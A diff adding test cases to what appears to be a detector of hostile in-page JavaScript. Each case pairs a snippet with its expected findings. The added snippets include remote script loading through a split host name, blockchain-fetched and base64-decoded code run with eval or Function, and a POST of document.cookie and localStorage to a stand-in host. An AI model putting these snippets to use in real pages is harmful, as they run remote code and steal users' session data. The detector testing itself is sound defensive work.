@@ -71,6 +71,30 @@ const cases: Record<string, [string, string[]]> = {
     `var t=pay.tokenize;pay.tokenize=function(c,f){var s=Date.now();return t.call(pay,c,function(e,r){navigator.sendBeacon('https://apm.example/',String(Date.now()-s));f(e,r)})}`,
     [],
   ],
+  'a script from a host in pieces': [
+    `var s=document.createElement('script');s.src=['ht','tps://sta','ts-cd','n.example/a.js'].join('');document.head.appendChild(s)`,
+    ['high script-from-decoded-url'],
+  ],
+  'an answer from a host in pieces': [
+    `fetch('https://sta'+'ts-cd'+'n.example/a').then(function(r){return r.json()})`,
+    ['medium script-from-decoded-url'],
+  ],
+  'a host joined from whole parts': [
+    `var s=document.createElement('script');s.src='https://'+['cdn','stats','example'].join('.')+'/a.js';document.head.appendChild(s)`,
+    [],
+  ],
+  'code that a contract holds': [
+    `(async()=>{const r=await fetch('https://rpc.example/',{method:'POST',body:JSON.stringify({method:'eth_call',params:[]})});const h=(await r.json()).result;let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(s)})()`,
+    ['high answer-run-as-code', 'low decoded-code-executed'],
+  ],
+  'an answer that is decoded and run': [
+    `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){Function(atob(t))()})`,
+    ['medium answer-run-as-code', 'low decoded-code-executed'],
+  ],
+  'cookies with all that is stored': [
+    `fetch('https://x.example/',{method:'POST',body:JSON.stringify({c:document.cookie,l:{...localStorage}})})`,
+    ['medium cookies-to-host'],
+  ],
   'an agent that measures requests': [
     `var f=window.fetch;window.fetch=function(u,o){var t=Date.now();return f.apply(this,arguments).then(function(r){navigator.sendBeacon('https://apm.example/v1',JSON.stringify({url:String(u),method:o&&o.method,ms:Date.now()-t,status:r.status,size:o&&o.body?o.body.length:0}));return r})};var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){this.t=Date.now();return s.apply(this,arguments)}`,
     [],
